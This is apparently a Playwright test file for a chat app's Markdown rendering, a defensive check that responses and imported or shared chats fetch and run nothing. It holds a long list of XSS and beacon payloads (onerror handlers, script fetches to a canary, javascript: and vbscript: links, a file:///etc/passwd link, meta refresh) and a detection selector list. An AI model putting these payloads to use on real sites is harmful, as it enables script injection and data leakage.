import type { Locator, Page } from "@playwright/test";
import { type Canary, startCanary } from "./canary.ts";
import { expect, holdAfter, says, test, writes } from "./test.ts";

/** Every way we know to make a page fetch something or run something from Markdown. `{canary}` would hear of it. */
const hostile = `Hostile text begins.

![pixel]({canary}/image.png?secret=1) ![by reference][pic] ![data](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)

[pic]: {canary}/reference.png "title"

<img src="{canary}/html.png" onerror="window.pwned = 1"> <script>window.pwned = 2; fetch("{canary}/script")</script>

<iframe src="{canary}/frame"></iframe><link rel="stylesheet" href="{canary}/style.css">
<svg onload="window.pwned = 3"><use href="{canary}/use.svg#a"/></svg><video src="{canary}/video" autoplay></video>
<style>body { background: url({canary}/background) }</style><object data="{canary}/object"></object>
<meta http-equiv="refresh" content="0; url={canary}/refresh"><base href="{canary}/">

[run me](javascript:window.pwned=4) [data link](data:text/html,<script>window.pwned=5</script>) [plain](http://example.com/)
[relative](/api/chat) [other host](//example.com/x) <javascript:window.pwned=6>
[upwards](../../api/chats) [redirect](/_next/image?url={canary}/redirect) [vb](vbscript:pwned=8) [file](file:///etc/passwd)
[by name][] {canary}/autolink <{canary}/autolink> www.example.com ![upwards](../../../icon.svg)

[by name]: javascript:window.pwned=9

<a href="https://example.com/" ping="{canary}/ping">ping</a> <link rel="prefetch" href="{canary}/prefetch">
<link rel="preconnect" href="{canary}"><link rel="dns-prefetch" href="{canary}"><link rel="modulepreload" href="{canary}/module">
<svg><image href="{canary}/image.svg"/></svg> <p style="background: url({canary}/inline)">styled</p>
<form action="{canary}/form"><button>form</button></form> <audio src="{canary}/audio" autoplay></audio> <embed src="{canary}/embed">
<script type="speculationrules">{"prefetch": [{"urls": ["{canary}/speculation"]}]}</script> <input type="image" src="{canary}/input">

| a | b |
|---|---|
| ![cell]({canary}/cell.png) | <b onclick="window.pwned = 7">bold</b> |

A good link: [docs](https://example.com/docs), and mail: [write](mailto:a@example.com).

Hostile text ends.`;

/** What a line of text can hold of it. */
const hostileTitle = `<img src={canary}/t1 onerror=pwned=1> ![t]({canary}/t2) [t](javascript:pwned=2)`;

/** Nothing that a page could fetch from or run. */
const elements =
  "img, iframe, script, svg use, svg image, style, video, audio, object, embed, meta, base, link, form, [ping], [style*=url], [onerror], [onload], [onclick]";

/** All that a text may have in it, with the good links it ends with. */
async function expectHarmless(page: Page, main: Locator, texts: number): Promise<void> {
  await expect(main.locator(elements)).toHaveCount(0);
  const links = main.getByRole("link").and(main.locator("[target]"));
  const good = ["https://example.com/docs", "mailto:a@example.com"];
  expect(await links.evaluateAll((all) => all.map((link) => link.getAttribute("href")))).toEqual(
    Array.from({ length: texts }, () => good).flat(),
  );
  for (const words of ["run me", "data link", "plain", "relative", "upwards", "vb"])
    await main.getByText(words).first().click();
  for (const link of await links.all()) {
    await link.hover();
    await link.focus();
  }
  await page.waitForLoadState("networkidle");
  expect(await page.evaluate(() => "pwned" in window)).toBe(false);
}

/** That the canary would hear a browser, had it been made to ask. */
async function expectReachable(page: Page, canary: Canary): Promise<void> {
  expect(canary.heard).toEqual([]);
  const tab = await page.context().newPage();
  await tab.goto(`${canary.url}/direct`);
  await tab.close();
  expect(canary.heard).toContain("GET /direct");
}

/** A chat that somebody else wrote, as a file of it. */
function exportHostile(canary: Canary) {
  const [text, title] = [hostile, hostileTitle].map((each) => each.replaceAll("{canary}", canary.url));
  const message = (id: string, role: string) => ({ id, role, parts: [{ type: "text", text }] });
  const time = { createdAt: 0, unverified: false };
  const messages = [
    { message: message("question-one", "user"), parentId: null, ...time },
    { message: message("answer-one", "assistant"), parentId: "question-one", ...time },
  ];
  const chat = { title, createdAt: 0, updatedAt: 0, headId: "answer-one", messages };
  return { format: "workings-chat", version: 1, chat, signature: "" };
}

// Without its policy a page has nothing but how it draws a text.
for (const bypassCSP of [false, true])
  test.describe(bypassCSP ? "without the page's policy" : "under the page's policy", () => {
    test.use({ bypassCSP });
    let canary: Canary;
    test.beforeEach(async () => {
      canary = await startCanary();
    });
    test.afterEach(() => canary.close());

    test("hostile Markdown fetches nothing and runs nothing, while it streams and after", async ({
      chat,
      provider,
    }) => {
      const foreign: string[] = [];
      chat.page.on("request", (request) => {
        if (!request.url().startsWith(new URL("/", chat.page.url()).href)) foreign.push(request.url());
      });
      const streaming = holdAfter("text ends");
      provider.answers(
        writes(hostileTitle.replaceAll("{canary}", canary.url), "const result = 1;"),
        says(hostile.replaceAll("{canary}", canary.url), streaming),
      );
      await chat.ask("Say something hostile");
      await streaming.reached;
      await expect(chat.main).toContainText("Hostile text ends");
      streaming.release();
      await chat.finish();
      await expect(chat.main).toContainText("Hostile text ends.");
      await expectHarmless(chat.page, chat.main, 1);
      expect(foreign).toEqual([]);
      await expectReachable(chat.page, canary);
    });

    test("a hostile chat that was imported, and is shared, fetches nothing and runs nothing", async ({
      chat,
      app,
    }) => {
      const send = (path: string, data: object) => chat.page.request.post(`${app.url}/api${path}`, { data });
      const imported = await send("/chats/import", exportHostile(canary));
      expect(imported.status(), await imported.text()).toBe(200);
      const { id } = await imported.json();
      await chat.openChat(`/chat/${id}`);
      await expect(chat.main).toContainText("Hostile text ends.");
      await expect(chat.page).toHaveTitle(/onerror/);
      await expectHarmless(chat.page, chat.main, 1);
      await expect(chat.page.getByRole("navigation", { name: "Chats" }).locator(elements)).toHaveCount(0);

      const { token } = await (await send(`/chat/${id}/share`, {})).json();
      await chat.page.goto(`${app.url}/shared/${token}`);
      await expect(chat.main).toContainText("Hostile text ends.");
      await expectHarmless(chat.page, chat.main, 1);
      await expectReachable(chat.page, canary);
    });
  });

test("a link opens elsewhere and tells nothing of this page", async ({ chat, provider }) => {
  provider.answers(says("See [the docs](https://example.com/docs)."));
  await chat.ask("Where are the docs?");
  await chat.finish();
  const link = chat.main.getByRole("link", { name: "the docs" });
  await expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
  await expect(link).toHaveAttribute("target", "_blank");
});

test("Markdown is drawn as what it is: headings below the page's own, lists, tables, code with its own copy button", async ({
  chat,
  provider,
}) => {
  provider.answers(
    says(
      "# Heading\n\n- one\n- two\n\n| n | square |\n|---|---|\n| 3 | 9 |\n\n```js\nconst notRun = 1;\n```\n",
    ),
  );
  await chat.ask("Show me Markdown");
  await chat.finish();
  await expect(chat.main.getByRole("heading", { name: "Heading", level: 3 })).toBeVisible();
  await expect(chat.main.getByRole("listitem")).toHaveText(["one", "two"]);
  await expect(chat.main.getByRole("cell", { name: "9" })).toBeVisible();
  await expect(chat.main.getByRole("group", { name: "Code" })).toContainText("const notRun = 1;");
  await expect(chat.main.getByRole("button", { name: "Copy this code" })).toBeVisible();
});
